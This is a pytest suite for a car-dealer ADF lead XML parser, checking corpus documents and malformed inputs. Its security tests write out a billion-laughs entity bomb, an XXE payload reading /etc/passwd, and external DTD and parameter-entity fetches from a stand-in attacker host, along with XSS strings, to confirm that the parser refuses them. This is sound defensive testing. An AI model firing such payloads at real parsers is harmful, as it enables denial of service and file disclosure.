"""Tests for the ADF 1.0 parser: the shared corpus of real documents, then hand-made nasty ones."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from dealer_leads.leads.adf import KNOWN_CHILDREN, InvalidAdf, parse_adf, parse_adf_datetime
from dealer_leads.leads.normalize import LeadIn

CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "adf"
CORPUS_FILES = sorted(CORPUS.glob("*.xml")) if CORPUS.is_dir() else []
ENTITIES_FILE = "idknerdyshit-adf-fuzz-security-entities.xml"
REFUSED = "DTDs and entities are not accepted"


def tz(hours: int) -> timezone:
    return timezone(timedelta(hours=hours))


# What a careful reader finds in each corpus file. `details` is, per vehicle:
# (vin, stock, trim, odometer, odometer units, price, colour, comments). `warnings` lists a
# fragment of each expected warning, in order, and no others.
EXPECTED: dict[str, dict] = {
    "aayush-ratna-sthapit-adf-xml-parser-lead1.xml": {
        "name": ("John", "Test01292019", ""),  # the empty middle <name> is ignored
        "email": "testemail@domain.com",
        "phones": [
            ("phone", "1234567890"),
            ("cellphone", "9999999999"),
            ("pager", "9999999999"),
            ("fax", "9999999999"),
        ],
        "address": ("6299 Airport Road", "Mississauga", "ON", "L4V1N3", "Canada"),
        "vehicles": [("buy", "used", 2023, "Hyundai", "i30")],
        "provider_lead_id": "",  # <id source="ABC"></id> is empty
        "source": "PROSPECT",
        "vendor_name": "Approval Genie",
        "requested_at": datetime(2019, 1, 15, 18, 46, 36, tzinfo=tz(-6)),
        "comments_start": "Date of Birth: 1980-11-17\nMonthly Payment: 1450\nRent_or_own: Rent\n",
        "comments_end": "\nComments: looking for SUV, new to the country...",
        "extensions": {},
        "warnings": [],
    },
    "carmelosantana-sendadf-readme-compact-single-line.xml": {
        "name": ("", "", "John Doe"),
        "email": "",
        "phones": [("voice", "393-999-3922")],
        "vehicles": [("buy", "used", 1999, "Chevrolet", "Blazer")],
        "provider_lead_id": "",
        "source": "Acura of Bellevue",
        "vendor_name": "Acura of Bellevue",
        "requested_at": datetime(2020, 2, 9, 18, 26, 0, tzinfo=tz(-5)),
        "extensions": {},
        "warnings": ["no <vendorname>; its contact name 'Acura of Bellevue' was used"],
    },
    "carmelosantana-sendadf-readme-defaults-no-vendor.xml": {
        "name": ("", "", "John Doe"),
        "email": "",
        "phones": [("voice", "393-999-3922")],
        "vehicles": [("buy", "new", 1999, "Chevrolet", "Blazer")],
        "provider_lead_id": "",
        "source": "ADF",
        "vendor_name": "",
        "requested_at": datetime(2021, 2, 9, 19, 32, 16, tzinfo=tz(-5)),
        "extensions": {},
        "warnings": ["no <vendor>"],
    },
    "gcoombe-adf-leads-example.xml": {
        "name": ("", "", "Test user"),  # name type="full" where part was meant
        "email": "test@fetchauto.ca",
        "phones": [("voice", "778-555-4474")],
        "address": ("453 W 12th Ave", "Vancouver", "BC", "V5Y1V4", "CA"),
        "vehicles": [],
        "provider_lead_id": "1",
        "source": "Fetch Auto",
        "vendor_name": "",
        "requested_at": datetime(2018, 4, 15, 15, 30, 20, tzinfo=tz(-8)),
        "extensions": {
            "customer/contact/address/ownershiptype": "own",
            "customer/employment": "<employment><status>fulltime</status><employer>Telus</employer>"
            "<occupation>Regional manager</occupation><monthlyincome>1000</monthlyincome>"
            "<monthsatemployer>3</monthsatemployer><yearsatemployer>2</yearsatemployer>"
            "</employment>",
        },
        "warnings": ["no <vendor>", "names no vehicle"],
    },
    "idknerdyshit-adf-tests-full-lead-with-extension.xml": {
        "name": ("John", "Doe", ""),
        "email": "jdoe@example.com",
        "phones": [("voice", "393-999-3922")],
        "vehicles": [("buy", "used", 1997, "Chevrolet", "Blazer")],
        "details": [("1GNDT13W5V2200000", "", "", None, "", Decimal("26995"), "", "")],
        "provider_lead_id": "38889",
        "source": "CarPoint",
        "vendor_name": "Koons Internet Outlet",
        "requested_at": datetime(2000, 3, 30, 15, 30, 20, tzinfo=tz(-8)),
        "comments": "Can deliver by Thursday?",
        "extensions": {"vehicle/partner-score": '<partner-score value="hot">97</partner-score>'},
        "warnings": [],
    },
    "idknerdyshit-adf-tests-maximal-namespaced-single-line.xml": {
        "name": ("", "", "Jane Doe"),
        "email": "jane@example.test",
        "phones": [("voice", "555-0100")],
        "address": ("1 Main, Unit 2, 2A", "Detroit", "MI", "48201", "US"),
        "vehicles": [("buy", "new", 2024, "Honda", "Civic")],
        "details": [
            (
                "1HGCM82633A004352",
                "STK-1",
                "Touring",
                123,
                "mi",
                Decimal("25000"),  # the option's <price> 900 is not the vehicle's price
                "Blue",
                "Vehicle comment",
            )
        ],
        "provider_lead_id": "P-1",
        "source": "Provider",
        "vendor_name": "Dealer",
        "requested_at": datetime(2024, 1, 2, 3, 4, 5, tzinfo=tz(-5)),
        "comments": "Customer comment\nTimeframe: soon (earliest 2024-02-01, latest 2024-03-01)",
        "extensions": {"vehicle/condition": "excellent"},
        "warnings": [],
    },
    "jippylong12-adf_builder-readme-adf-pi-before-xml-decl-contact-phone.xml": {
        "name": ("", "", "New Guy"),
        "email": "",
        "phones": [("voice", "(555)-444-3333")],
        "vehicles": [],
        "provider_lead_id": "",
        "source": "ADF",
        "vendor_name": "",
        "requested_at": datetime(2021, 8, 8, 18, 44, 45, tzinfo=tz(4)),
        "extensions": {},
        "warnings": ["<vendor> has no <vendorname> and no contact name", "names no vehicle"],
    },
    "jippylong12-adf_builder-readme-sell-used-vehicle-only.xml": {
        "name": ("", "", ""),
        "email": "",
        "phones": [],
        "vehicles": [("sell", "used", 2021, "Toyota", "Prius")],
        "details": [("XXXXXXXXXX", "", "", None, "", None, "", "")],
        "provider_lead_id": "",
        "source": "ADF",
        "vendor_name": "",
        "requested_at": datetime(2021, 8, 4, 18, 16, 31, tzinfo=tz(4)),
        "extensions": {},
        "warnings": ["no <vendor>", "no customer <contact>"],
    },
    "page-launchlabs-cdata-comments-empty-vehicle.xml": {
        "name": ("Example", "Example", "Example"),
        "email": "",
        "phones": [("voice", "(000) 000-0000")],
        "address": ("", "", "", "", ""),
        "vehicles": [],
        "provider_lead_id": "Example",
        "source": "Example",
        "vendor_name": "Example Dealer",
        "requested_at": datetime(2025, 9, 22, 18, 7),  # naive: no zone was given
        "comments_start": "Click for full customer profile: https://example.com/profile\n",
        "comments_end": "information you requested.\nThank you for choosing Example Dealer.",
        "extensions": {"provider/leadtype": "Sales", "leadtype": "Sales"},
        "warnings": [
            "its contact name 'Example Dealer' was used",
            "vehicle 1 is an empty <vehicle/>",
            "names no vehicle",
        ],
    },
    "page-mygoaltracking-adfxml-nonenum-phone-types.xml": {
        "name": ("Johnny", "Customer", ""),
        "email": "johnny@customer.com",
        "phones": [
            ("home", "857-485-7485"),
            ("work", "867-586-7584"),
            ("mobile", "979-685-9685"),
        ],
        "vehicles": [("buy", "used", 1995, "BUICK", "Regal")],
        "details": [("2G4WF52L6S1472882", "12886", "", None, "", None, "", "")],
        "provider_lead_id": "",
        "source": "Name of lead provider or web-site",
        "vendor_name": "Name of lead provider or web-site",
        "requested_at": datetime(2008, 6, 25, 8, 47, 50),
        "comments": "What is your best price?",
        "extensions": {},
        "warnings": ["<vendor> has no <vendorname>"],
    },
    "page-purlem-leading-apostrophe-street.xml": {
        "name": ("Joe", "Smith", ""),
        "email": "joe@email.com",
        "phones": [("voice", "123-123-1234")],
        "address": ("'123 Main St", "New York", "NY", "01234", ""),
        "vehicles": [("buy", "", 2016, "Honda", "Accord")],
        "provider_lead_id": "",
        "source": "Your Co",
        "vendor_name": "ABC Dealer",
        "requested_at": datetime(2016, 3, 30, 15, 30, 20, tzinfo=tz(-8)),
        "comments": "I want to buy a car now",
        "extensions": {},
        "warnings": [],
    },
    "page-wikipedia-auto-lead-data-format-valid-example.xml": {
        "name": ("First", "Last", ""),
        "email": "emailaddress",  # not an address; normalize_contact flags it, the parser keeps it
        "phones": [("voice", "323-223-3322")],
        "vehicles": [("buy", "", 2008, "Make", "Model")],
        "provider_lead_id": "",
        "source": "Dealer Name",
        "vendor_name": "Dealer Name",
        "requested_at": datetime(2000, 3, 30, 15, 30, 20, tzinfo=tz(-8)),
        "extensions": {},
        "warnings": ["its contact name 'Dealer Name' was used"],
    },
    "rjwrobel86-adf-xml-generator-spec-minimal-template.xml": {
        "name": ("", "", "John Doe"),
        "email": "",
        "phones": [("voice", "393-999-3922")],
        "vehicles": [("buy", "", 1999, "Chevrolet", "Blazer")],
        "provider_lead_id": "",
        "source": "Acura of Bellevue",
        "vendor_name": "Acura of Bellevue",
        "requested_at": datetime(2000, 3, 30, 15, 30, 20, tzinfo=tz(-8)),
        "extensions": {},
        "warnings": ["its contact name 'Acura of Bellevue' was used"],
    },
    "tdr-autosync-atx-activix-crm-docs-full-featured-with-extensions.xml": {
        "name": ("Test", "Activix 2", ""),
        "email": "test@activix.ca",
        "phones": [
            ("phone", "+14382881008"),
            ("phone", "+14382881008"),
            ("cellphone", "+14382881008"),
        ],
        "address": ("", "", "QC", "J1B2N3", "CA"),
        "vehicles": [("buy", "new", 2020, "Volvo", "XC90")],
        "details": [
            (
                "2GTEK19R7V1511644",
                "V12345",
                "R-Design",
                1500,
                "km",
                Decimal("59999.99"),
                "Black",
                "Demo car",
            )
        ],
        "provider_lead_id": "12345",
        "source": "Activix",
        "vendor_name": "ABC Motors",
        "requested_at": datetime(2020, 4, 28, 15, 30, 20, tzinfo=tz(-5)),
        "comments": "Can you deliver the car to my house?\n"
        "Timeframe: Changing car soon. (earliest 2020-05-01T15:30:00-04:00)",
        "extensions": {
            "vehicle/condition": "excellent",
            "customer/contact/id": '<id sequence="1" source="Activix">12345</id>',
            "customer/contact/gender": "2",
            "customer/contact/birthday": "2015-04-24",
            "customer/contact/locale": "fr",
            "provider/form": "Financing request",
            "provider/referer": "Google",
            "provider/term": "Volvo XC",
            "provider/keyword": "Volvo Laval",
            "provider/navigationhistory": "04/28/2020 - 22:10:25 - /\n"
            "04/28/2020 - 22:11:03 - [Popup open] EMAILID_AvailabilityUsed\n"
            "04/28/2020 - 22:11:03 - [Popup close] EMAILID_AvailabilityUsed\n"
            "04/28/2020 - 22:11:03 - /new/xc90 MENU_clicked_URL",
        },
        "warnings": [],
    },
}


def check_warnings(lead: LeadIn, fragments: list[str]) -> None:
    """Each warning contains its expected fragment, in order, and there are no others."""
    assert len(lead.warnings) == len(fragments), lead.warnings
    for warning, fragment in zip(lead.warnings, fragments, strict=True):
        assert fragment in warning


def check_lead(lead: LeadIn, expected: dict) -> None:
    """Compare a lead with one entry of EXPECTED."""
    contact = lead.contact
    assert (contact.first_name, contact.last_name, contact.full_name) == expected["name"]
    assert contact.email == expected["email"]
    assert contact.phones == expected["phones"]
    if "address" in expected:
        address = (contact.street, contact.city, contact.region, contact.postal_code)
        assert (*address, contact.country) == expected["address"]
    vehicles = [(v.interest, v.status, v.year, v.make, v.model) for v in lead.vehicles]
    assert vehicles == expected["vehicles"]
    if "details" in expected:
        details = [
            (v.vin, v.stock, v.trim, v.odometer, v.odometer_units, v.price, v.color, v.comments)
            for v in lead.vehicles
        ]
        assert details == expected["details"]
    for key in ("provider_lead_id", "source", "vendor_name", "requested_at", "extensions"):
        assert getattr(lead, key) == expected[key], key
    assert lead.comments == expected.get("comments", lead.comments)
    assert lead.comments.startswith(expected.get("comments_start", ""))
    assert lead.comments.endswith(expected.get("comments_end", ""))
    assert lead.is_resend is False
    check_warnings(lead, expected["warnings"])


@pytest.mark.parametrize(
    "path", CORPUS_FILES or [None], ids=lambda p: p.name if p else "corpus-missing"
)
def test_corpus_file(path: Path | None) -> None:
    if path is None:
        pytest.skip("../shared/corpus/adf not present")
    if path.name == ENTITIES_FILE:
        with pytest.raises(InvalidAdf, match=REFUSED):
            parse_adf(path.read_bytes())
        return
    assert path.name in EXPECTED, f"write the expectations for {path.name}"
    leads = parse_adf(path.read_bytes())
    assert len(leads) == 1
    check_lead(leads[0], EXPECTED[path.name])


def test_every_expectation_names_a_corpus_file() -> None:
    if not CORPUS_FILES:
        pytest.skip("../shared/corpus/adf not present")
    assert set(EXPECTED) <= {path.name for path in CORPUS_FILES}


def test_known_elements_cover_the_dtd() -> None:
    dtd = CORPUS / "jwadhams-adfxml-info-adf_1_0.dtd"
    if not dtd.is_file():
        pytest.skip("../shared/corpus/adf not present")
    declared = set(re.findall(r"<!ELEMENT\s+(\w+)", dtd.read_text()))
    known = set(KNOWN_CHILDREN).union(*KNOWN_CHILDREN.values())
    # `adf` is the root; `condition` is declared but no content model lets an element hold it.
    assert declared - known == {"adf", "condition"}
    assert known <= declared


# --- hand-made documents ------------------------------------------------------------------------

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<?adf version="1.0"?>\n'


def prospect(
    first: str = "Ann",
    last: str = "Lee",
    lead_id: str = "L-1",
    vehicles: str = "<vehicle><year>2022</year><make>Kia</make><model>Niro</model></vehicle>",
    extra: str = "",
    status: str = "new",
) -> str:
    """One complete prospect, with pieces replaceable."""
    return (
        f'<prospect status="{status}"><id source="Web">{lead_id}</id>'
        "<requestdate>2024-05-06T07:08:09Z</requestdate>"
        f"{vehicles}<customer><contact>"
        f'<name part="first">{first}</name><name part="last">{last}</name>'
        "<email>ann@example.test</email><phone>555-0100</phone>"
        "</contact></customer><vendor><vendorname>Lot 9</vendorname></vendor>"
        f'<provider><name part="full">Web</name></provider>{extra}</prospect>'
    )


def document(*prospects: str, head: str = HEAD) -> bytes:
    return f"{head}<adf>{''.join(prospects) or prospect()}</adf>".encode()


def only_lead(data: bytes) -> LeadIn:
    leads = parse_adf(data)
    assert len(leads) == 1
    return leads[0]


def test_a_clean_prospect_has_no_warnings() -> None:
    lead = only_lead(document())
    assert (lead.contact.first_name, lead.contact.last_name) == ("Ann", "Lee")
    assert (lead.source, lead.provider_lead_id, lead.vendor_name) == ("Web", "L-1", "Lot 9")
    assert lead.requested_at == datetime(2024, 5, 6, 7, 8, 9, tzinfo=UTC)
    assert lead.warnings == []


def test_several_prospects_become_several_leads_in_order() -> None:
    leads = parse_adf(
        document(prospect("Ann", lead_id="1"), prospect("Bob", lead_id="2"), prospect("Cy"))
    )
    assert [(lead.contact.first_name, lead.provider_lead_id) for lead in leads] == [
        ("Ann", "1"),
        ("Bob", "2"),
        ("Cy", "L-1"),
    ]


def test_trade_in_listed_first_keeps_document_order() -> None:
    vehicles = (
        '<vehicle interest="trade-in" status="used"><year>2012</year><make>Ford</make>'
        "<model>Focus</model><odometer units='MI'>98,765 miles</odometer></vehicle>"
        '<vehicle interest="buy" status="new"><year>2025</year><make>Kia</make>'
        "<model>EV9</model></vehicle>"
    )
    lead = only_lead(document(prospect(vehicles=vehicles)))
    assert [(v.interest, v.status, v.make) for v in lead.vehicles] == [
        ("trade-in", "used", "Ford"),
        ("buy", "new", "Kia"),
    ]
    assert (lead.vehicles[0].odometer, lead.vehicles[0].odometer_units) == (98765, "mi")


def test_resend_status() -> None:
    assert only_lead(document(prospect(status="resend"))).is_resend is True
    assert only_lead(document(prospect(status="new"))).is_resend is False


def test_unknown_elements_are_kept_as_extensions() -> None:
    vehicles = (
        "<vehicle><year>2022</year><make>Kia</make><model>Niro</model>"
        '<partner-score value="hot">97</partner-score><condition>fair</condition>'
        "<condition>  scratched\n   bumper </condition></vehicle>"
    )
    extra = (
        '<leadtype>Sales</leadtype><tracking xmlns="urn:t"><utm>\n  <source>g</source>\n</utm>'
        "</tracking>"
    )
    lead = only_lead(document(prospect(vehicles=vehicles, extra=extra)))
    assert lead.extensions == {
        "vehicle/partner-score": '<partner-score value="hot">97</partner-score>',
        "vehicle/condition": "fair",
        "vehicle/condition (2)": "scratched\n bumper",
        "leadtype": "Sales",
        "tracking": '<ns0:tracking xmlns:ns0="urn:t"><ns0:utm><ns0:source>g</ns0:source>'
        "</ns0:utm></ns0:tracking>",
    }
    assert lead.warnings == []


def test_latin1_bytes_with_their_declaration() -> None:
    head = '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    data = f"{head}<adf>{prospect('José', 'Müller')}</adf>".encode("latin-1")
    lead = only_lead(data)
    assert (lead.contact.first_name, lead.contact.last_name) == ("José", "Müller")
    assert lead.warnings == []


def test_cp1252_bytes_without_a_declaration_fall_back_with_a_warning() -> None:
    vehicles = "<vehicle><make>Kia</make><comments>“Best” price — €20k</comments></vehicle>"
    data = f"<adf>{prospect('Zoë', vehicles=vehicles)}</adf>".encode("cp1252")
    lead = only_lead(data)
    assert lead.contact.first_name == "Zoë"
    assert lead.vehicles[0].comments == "“Best” price — €20k"
    check_warnings(lead, ["read as Windows-1252"])


def test_cp1252_bytes_declared_as_utf8_are_still_read() -> None:
    data = f'<?xml version="1.0" encoding="UTF-8"?><adf>{prospect("Renée")}</adf>'
    lead = only_lead(data.encode("cp1252"))
    assert lead.contact.first_name == "Renée"
    check_warnings(lead, ["declares encoding 'UTF-8' but", "read as Windows-1252"])


def test_unknown_declared_encoding_warns_and_reads_utf8() -> None:
    data = f'<?xml version="1.0" encoding="klingon-8"?><adf>{prospect("Łucja")}</adf>'
    lead = only_lead(data.encode())
    assert lead.contact.first_name == "Łucja"
    check_warnings(lead, ["unknown encoding 'klingon-8'"])


def test_spec_prolog_with_typographic_quotes_and_a_declared_encoding() -> None:
    head = '<?ADF VERSION "1.0"?>\r\n<?XML VERSION “1.0” ENCODING “windows-1252”?>\r\n'
    lead = only_lead(document(prospect("Renée"), head=head).decode().encode("cp1252"))
    assert lead.contact.first_name == "Renée"
    assert lead.warnings == []


@pytest.mark.parametrize(
    "head",
    [
        '<?ADF version="1.0"?>\n\n<?xml version="1.0"?>\n',
        '\ufeff<?xml version="1.0"?>\n<?ADF VERSION="1.0"?>\n',
        '  \n<?xml version="1.0"?>\n',
        '<!-- generated --><?xml version="1.0"?><?xml-stylesheet href="a.xsl"?>',
        "",
    ],
    ids=["adf-pi-first", "bom", "leading-blank-line", "comment-first", "no-prolog"],
)
def test_prolog_quirks_are_repaired(head: str) -> None:
    assert only_lead(document(head=head)).contact.first_name == "Ann"


def test_utf16_with_a_bom() -> None:
    data = f'<?xml version="1.0" encoding="UTF-16"?><adf>{prospect("Ōta")}</adf>'
    lead = only_lead(data.encode("utf-16"))
    assert lead.contact.first_name == "Ōta"
    assert lead.warnings == []


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "the document is empty"),
        (b" \r\n\t", "the document is empty"),
        (b'<?xml version="1.0"?>\n<?adf version="1.0"?>', "not well-formed XML at line 2"),
        (b"hello, this is not XML", "not well-formed XML at line 1, column 1: syntax error"),
        (b"<adf>\n<prospect>\n<name></nam>\n</prospect></adf>", "line 3, column 9: mismatched"),
        (b'<?adf version="1.0"?>\n\n<?xml version="1.0"?>\n<adf>\n<x></y>', "line 5, column 6"),
        (b"<adf><prospect>&nbsp;</prospect></adf>", "undefined entity"),
        (b"<adf><prospect></prospect></adf><adf/>", "junk after document element"),
        (b"<foo><prospect/></foo>", "the root element is <foo>, not <adf>"),
        (b"<html><body><p>Thanks!</p></body></html>", "the root element is <html>, not <adf>"),
        (b"<adf/>", "the <adf> document contains no <prospect>"),
        (b"<adf><lead/></adf>", "the <adf> document contains no <prospect>"),
    ],
    ids=[
        "empty",
        "whitespace",
        "prolog-only",
        "not-xml",
        "mismatched-tag",
        "line-numbers-kept",
        "undefined-entity",
        "two-roots",
        "wrong-root",
        "html",
        "no-prospect",
        "no-prospect-other-child",
    ],
)
def test_unreadable_documents_are_refused(data: bytes, message: str) -> None:
    with pytest.raises(InvalidAdf, match=re.escape(message)):
        parse_adf(data)


def billion_laughs() -> str:
    """The classic entity bomb: nine levels of ten-fold expansion."""
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        reference = f"&lol{level - 1};"
        entities.append(f'<!ENTITY lol{level} "{reference * 10}">')
    body = "<adf><prospect><customer><comments>&lol9;</comments></customer></prospect></adf>"
    return '<?xml version="1.0"?>\n<!DOCTYPE adf [\n' + "\n".join(entities) + "\n]>\n" + body


XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE adf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    "<adf><prospect><customer><comments>&xxe;</comments></customer></prospect></adf>"
)
PARAMETER_ENTITIES = (
    '<?xml version="1.0"?>\n<!DOCTYPE adf [\n<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd">\n'
    "<!ENTITY % inner \"<!ENTITY leak 'x'>\">\n%inner;\n%remote;\n]>\n"
    "<adf><prospect><customer><comments>&leak;</comments></customer></prospect></adf>"
)
EXTERNAL_DTD = (
    '<?adf version="1.0"?>\n<?xml version="1.0"?>\n'
    '<!DOCTYPE adf SYSTEM "http://attacker.invalid/adf.dtd">\n<adf><prospect/></adf>'
)


@pytest.mark.parametrize(
    "text",
    [billion_laughs(), XXE, PARAMETER_ENTITIES, EXTERNAL_DTD],
    ids=["billion-laughs", "xxe-file", "parameter-entities", "external-dtd"],
)
def test_dtds_and_entities_are_refused_unexpanded(text: str) -> None:
    with pytest.raises(InvalidAdf, match=REFUSED) as caught:
        parse_adf(text.encode())
    assert "root:" not in str(caught.value) and "lollol" not in str(caught.value)


def test_a_large_flat_document_is_fine() -> None:
    leads = parse_adf(document(*(prospect(f"P{i}", lead_id=str(i)) for i in range(50))))
    assert len(leads) == 50
    assert [lead.provider_lead_id for lead in leads] == [str(i) for i in range(50)]
    assert all(lead.warnings == [] for lead in leads)


def test_absurd_nesting_is_refused() -> None:
    deep = "<x>" * 500 + "</x>" * 500
    with pytest.raises(InvalidAdf, match="nested more than"):
        parse_adf(document(prospect(extra=deep)))


def test_markup_in_values_comes_back_as_plain_text() -> None:
    first = "&lt;script&gt;alert(1)&lt;/script&gt;"
    last = "<![CDATA[<img src=x onerror=alert(2)>]]>"
    lead = only_lead(document(prospect(first, last)))
    assert lead.contact.first_name == "<script>alert(1)</script>"
    assert lead.contact.last_name == "<img src=x onerror=alert(2)>"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("2008-06-25T8:47:50", datetime(2008, 6, 25, 8, 47, 50)),
        ("2025-09-22T18:07", datetime(2025, 9, 22, 18, 7)),
        ("2000-03-30T15:30:20-08:0", datetime(2000, 3, 30, 15, 30, 20, tzinfo=tz(-8))),
        ("2000-03-30T15:30:20-0800", datetime(2000, 3, 30, 15, 30, 20, tzinfo=tz(-8))),
        ("2021-08-08T18:44:45+04:00", datetime(2021, 8, 8, 18, 44, 45, tzinfo=tz(4))),
        ("2018-04-15T15:30:20.123-08:00", datetime(2018, 4, 15, 15, 30, 20, 123000, tz(-8))),
        ("2024-01-02 03:04:05Z", datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)),
        ("2024-02-01", datetime(2024, 2, 1)),
        (
            " 2024-02-01T09:00:00+05:30 ",
            datetime(2024, 2, 1, 9, tzinfo=timezone(timedelta(hours=5.5))),
        ),
        ("2024-13-01T00:00:00", None),
        ("2024-01-01T10:00:00+25:00", None),
        ("yesterday", None),
        ("01/02/2024", None),
    ],
)
def test_parse_adf_datetime(raw: str, expected: datetime | None) -> None:
    assert parse_adf_datetime(raw) == expected


def test_unreadable_requestdate_warns_naming_the_value() -> None:
    text = document().decode().replace("2024-05-06T07:08:09Z", "next Tuesday")
    lead = only_lead(text.encode())
    assert lead.requested_at is None
    check_warnings(lead, ["'next Tuesday' could not be read"])


def test_vehicle_values_are_cleaned_or_warned_about() -> None:
    vehicles = (
        '<vehicle interest="Trade In" status="USED"><year>n/a</year><make> Kia </make>'
        "<model>Soul</model><vin> 1hg cm8 2633a00 4352 </vin><odometer>unknown</odometer>"
        "<price>call us</price></vehicle>"
        '<vehicle interest="rent" status="certified"><year>2020</year><make>VW</make>'
        "<model>Golf</model><price currency='USD'>$21,499.50</price>"
        "<colorcombination><interiorcolor>Grey</interiorcolor></colorcombination>"
        "<colorcombination><exteriorcolor>Red</exteriorcolor></colorcombination>"
        "<comments>\n    Low miles.\n      One owner.\n  </comments></vehicle>"
        '<vehicle interest="lease"><year>2024</year><make>BMW</make><model>i4</model>'
        "<option><optionname>Tow</optionname><price>900</price></option></vehicle>"
    )
    soul, golf, bmw = only_lead(document(prospect(vehicles=vehicles))).vehicles
    assert (soul.interest, soul.status, soul.year, soul.make) == ("trade-in", "used", None, "Kia")
    assert (soul.vin, soul.odometer, soul.price) == ("1HGCM82633A004352", None, None)
    assert (golf.interest, golf.status, golf.price) == ("buy", "", Decimal("21499.50"))
    assert (golf.color, golf.comments) == ("Red", "Low miles.\n  One owner.")
    assert (bmw.interest, bmw.price) == ("lease", None)


def test_vehicle_warnings_name_the_vehicle_and_value() -> None:
    vehicles = (
        '<vehicle interest="rent" status="certified"><year>’08</year><make>VW</make>'
        "<model>Golf</model><odometer>lots</odometer><price>call</price></vehicle>"
        "<vehicle/><vehicle><comments>any car</comments></vehicle>"
    )
    lead = only_lead(document(prospect(vehicles=vehicles)))
    assert len(lead.vehicles) == 2
    check_warnings(
        lead,
        [
            "vehicle 1: interest 'rent' is not an ADF value; 'buy' assumed",
            "vehicle 1: status 'certified'",
            "vehicle 1: year '’08' is not a number",
            "vehicle 1: odometer 'lots' is not a number",
            "vehicle 1: price 'call' is not a number",
            "vehicle 2 is an empty <vehicle/>",
            "vehicle 3 has no year, make, model or VIN",
        ],
    )


def test_name_styles() -> None:
    names = (
        '<name part="first"> Mary </name><name part="middle">Ann</name>'
        '<name part="surname">Smith</name><name>Mary Ann Smith</name>'
    )
    text = (
        document()
        .decode()
        .replace('<name part="first">Ann</name><name part="last">Lee</name>', names)
    )
    contact = only_lead(text.encode()).contact
    assert (contact.first_name, contact.last_name) == ("Mary Ann", "Smith")
    assert contact.full_name == "Mary Ann Smith"


def test_contact_details_and_missing_parts() -> None:
    customer = (
        "<customer><contact><name part='full' type='individual'>Al Bo</name>"
        "<email> </email><email>al@example.test</email>"
        "<phone type='Mobile'> 555-0101 </phone><phone/><phone time='day'>555-0102</phone>"
        "<address><street line='1'>1 Elm</street><street line='2'></street>"
        "<apartment>4B</apartment><city>Troy</city><regioncode>NY</regioncode>"
        "<postalcode>12180</postalcode><country>US</country></address></contact>"
        "<contact primarycontact='1'><name>Cy Do</name><phone>555-0199</phone></contact>"
        "<timeframe>within a month</timeframe></customer>"
    )
    text = f"<adf><prospect>{customer}</prospect></adf>"
    lead = only_lead(text.encode())
    assert lead.contact.full_name == "Cy Do"  # the contact marked primary wins
    assert lead.comments == "Timeframe: within a month"
    check_warnings(
        lead,
        ["no <vendor>", "no vehicle", "no <requestdate>"],
    )
    first = only_lead(text.replace(" primarycontact='1'", "").encode()).contact
    assert (first.full_name, first.email) == ("Al Bo", "al@example.test")
    assert first.phones == [("mobile", "555-0101"), ("voice", "555-0102")]
    assert (first.street, first.city, first.region) == ("1 Elm, 4B", "Troy", "NY")
    assert (first.postal_code, first.country) == ("12180", "US")


def test_a_bare_prospect_lists_everything_missing() -> None:
    lead = only_lead(b"<adf><prospect><customer><contact/></customer><vendor/></prospect></adf>")
    assert lead.source == "ADF"
    check_warnings(
        lead,
        [
            "<vendor> has no <vendorname> and no contact name",
            "the customer contact has no name",
            "neither an e-mail address nor a phone number",
            "names no vehicle",
            "no <requestdate>",
        ],
    )


def test_source_and_provider_id_choices() -> None:
    extra_ids = '<id source="dealer-crm">D-9</id><id source=" web ">W-7</id>'
    text = document().decode().replace('<id source="Web">L-1</id>', extra_ids)
    lead = only_lead(text.encode())
    assert (lead.source, lead.provider_lead_id) == ("Web", "W-7")
    service_only = text.replace('<name part="full">Web</name>', "<service>Autos Daily</service>")
    lead = only_lead(service_only.encode())
    assert (lead.source, lead.provider_lead_id) == ("Autos Daily", "D-9")
    no_provider = re.sub(r"<provider>.*</provider>", "", text)
    assert only_lead(no_provider.encode()).source == "Lot 9"


def test_element_names_are_case_insensitive_and_namespace_free() -> None:
    text = (
        '<ADF xmlns="urn:star:adf"><Prospect STATUS="Resend"><RequestDate>2024-01-01'
        "</RequestDate><Vehicle Interest='Test-Drive'><Year>2023</Year><Make>Mazda</Make>"
        "<Model>CX-5</Model></Vehicle><Customer><Contact><Name Part='Full'>Di Ng</Name>"
        "<EMAIL>di@example.test</EMAIL></Contact></Customer><Vendor><VendorName>Z</VendorName>"
        "</Vendor></Prospect></ADF>"
    )
    lead = only_lead(text.encode())
    assert lead.is_resend is True
    assert lead.vehicles[0].interest == "test-drive"
    assert (lead.contact.full_name, lead.contact.email) == ("Di Ng", "di@example.test")
    assert (lead.vendor_name, lead.extensions, lead.warnings) == ("Z", {}, [])
